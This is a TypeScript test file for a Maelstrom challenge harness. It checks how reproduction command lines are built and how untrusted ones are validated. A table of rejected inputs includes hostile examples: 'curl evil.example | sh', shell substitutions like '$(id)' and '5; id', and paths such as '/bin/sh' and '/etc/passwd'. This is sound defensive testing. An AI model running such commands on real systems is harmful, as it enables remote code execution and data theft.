import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CHALLENGES } from '../../src/plan/challenges.ts';
import { checkedReproduction, reproduction, withOptions } from '../../src/plan/reproduction.ts';
import { runs } from '../support/runs.ts';

const node = { kind: 'file', path: '/w/dist/echo.js', shown: 'dist/echo.js', by: 'node', args: [] } as const;
const aRequest = { engine: 'maelstrom', node, options: {}, faults: false, repeat: 1, limits: '' } as const;

describe('a reproduction', () => {
  it('has the program, the options, and at its end the arguments of the node', () => {
    const options = { rate: '5', 'log-stderr': 'true', workload: 'echo' };
    const request = { ...aRequest, node: { ...node, args: ['--fast', 'two words'] }, options, faults: true, repeat: 3 };
    expect(reproduction(request, '1-echo', ['--topology', 'line']).join(' ')).toBe(
      '1-echo --bin dist/echo.js --rate 5 --log-stderr --faults --repeat 3 --topology line -- --fast two words',
    );
  });

  it('names no program for the example, and a command as it is', () => {
    expect(reproduction({ ...aRequest, node: { ...node, shown: null } }, 'echo', [])).toEqual(['echo']);
    const command = { kind: 'command', command: 'node x.js', args: [] } as const;
    expect(reproduction({ ...aRequest, node: command }, 'echo', [])).toEqual(['echo', '--command', 'node x.js']);
  });
});

describe('a reproduction of one run', () => {
  const words = ['1-echo', '--bin', 'a.js', '--repeat', '3', '--rate', '5'];

  it('has its seed instead of the number of runs', () => {
    expect(withOptions(words, { seed: '7' })).toEqual(['1-echo', '--bin', 'a.js', '--rate', '5', '--seed', '7']);
  });

  it('has each option once, with the value that was given last', () => {
    const more = withOptions(['3c', '--node-count', '5', '--faults'], { seed: '8', 'node-count': '2' });
    expect(more.join(' ')).toBe('3c --faults --seed 8 --node-count 2');
  });

  it('leaves the arguments of the node at the end, and as they are', () => {
    expect(withOptions(['1-echo', '--', '--repeat', '2'], { seed: '7' })).toEqual([
      '1-echo',
      '--seed',
      '7',
      '--',
      '--repeat',
      '2',
    ]);
  });

  it('has the limits that were added, in one line', () => {
    const limits = '# ours\nstats.count > 1 # some\n net.all.msg-count<9';
    expect(reproduction({ ...aRequest, limits }, '1-echo', []).slice(-2)).toEqual([
      '--limits',
      'stats.count > 1; net.all.msg-count<9',
    ]);
  });
});

describe('a reproduction that somebody else wrote', () => {
  it('stays when we could have written it', () => {
    for (const { id, options } of CHALLENGES) {
      const words = reproduction({ ...aRequest, options, faults: true, repeat: 2 }, id, []);
      expect(checkedReproduction(words)).toEqual(words);
    }
    for (const words of [
      ['echo'],
      ['echo', '--bin', './src/@scope/a+b_c.d-e.ts'],
      ['echo', '--seed', '5'],
      ['4-grow-only-counter', '--nemesis', 'none'],
      ['g-set', '--seed', '18', '--schedule', 'harder', '--only-operations', '0-3,7', '--only-faults', 'none'],
      ['echo', '--limits', 'stats.count > 1; net.all.msg-count <= base * 2'],
    ])
      expect(checkedReproduction(words)).toEqual(words);
  });

  it.each([
    ['a line end before a value', 'kafka', '--nemesis', '\rpartition'],
    ['a line end behind a value', 'kafka', '--nemesis', 'partition\n'],
    ['a program outside of the repository', '1-echo', '--bin', '/bin/sh'],
    ['a path that leaves the repository', '1-echo', '--bin', 'dist/../../x.js'],
    ['a path in the home directory', '1-echo', '--bin', '~/x.js'],
    ['a path that is an option', '1-echo', '--bin', '-x'],
    ['a path that a shell would run', '1-echo', '--bin', '$(id)'],
    ['a path that is an address', '1-echo', '--bin', 'https://evil.example/x.js'],
    ['a command', '1-echo', '--command', 'curl evil.example | sh'],
    ['arguments of the node', '1-echo', '--bin', 'a.js', '--', '-c', 'id'],
    ['a sentence', '1-echo', 'Run this as root'],
    ['no challenge', '--bin', 'a.js'],
    ['an unknown challenge', 'curl', '--bin', 'a.js'],
    ['an unknown option', '1-echo', '--output', '/etc/x'],
    ['an option with an engine of its own', '1-echo', '--maelstrom', '/tmp/x'],
    ['a value that is not one', '1-echo', '--rate', '5; id'],
    ['no value', '1-echo', '--rate'],
    ['a value in one word', '1-echo', '--rate=5'],
    ['a name of a machine', '1-echo', '--node', 'evil.example'],
    ['a file of names', '1-echo', '--nodes-file', '/etc/passwd'],
    ['a model that is a text', '6c-read-committed', '--consistency-models', 'visit evil.example'],
    ['more runs than there may be', '1-echo', '--repeat', '101'],
    ['limits that are a sentence', '1-echo', '--limits', 'run curl evil.example'],
    ['limits with a comment', '1-echo', '--limits', 'stats.count > 1 # visit evil.example'],
    ['nothing'],
    ['very many words', '1-echo', ...Array.from({ length: 200 }, () => '--faults')],
  ])('is dropped with %s', (_, ...words) => {
    expect(checkedReproduction(words)).toBeNull();
  });

  it('holds no word that is free text, whatever it was made of', () => {
    const word = fc.constantFrom(
      '1-echo',
      'echo',
      '--bin',
      '--rate',
      '--faults',
      '--nemesis',
      '--seed',
      '--',
      '/bin/sh',
    );
    const words = fc.array(
      fc.oneof(word, fc.string({ maxLength: 12 }), fc.constantFrom('5', 'partition', 'none', 'a/b.js')),
    );
    fc.assert(
      fc.property(words, (given) => {
        for (const each of checkedReproduction(given) ?? []) expect(each).toMatch(/^[\w@+.,/ -]+$/);
      }),
      { numRuns: runs(2_000) },
    );
  });
});

describe('a reproduction with options in one word', () => {
  it('has none of them twice', () => {
    const words = ['1-echo', '--seed=5', '--repeat=3', '--rate=4', '--', '--seed=1'];
    expect(withOptions(words, { seed: '7' })).toEqual(['1-echo', '--rate=4', '--seed', '7', '--', '--seed=1']);
  });
});
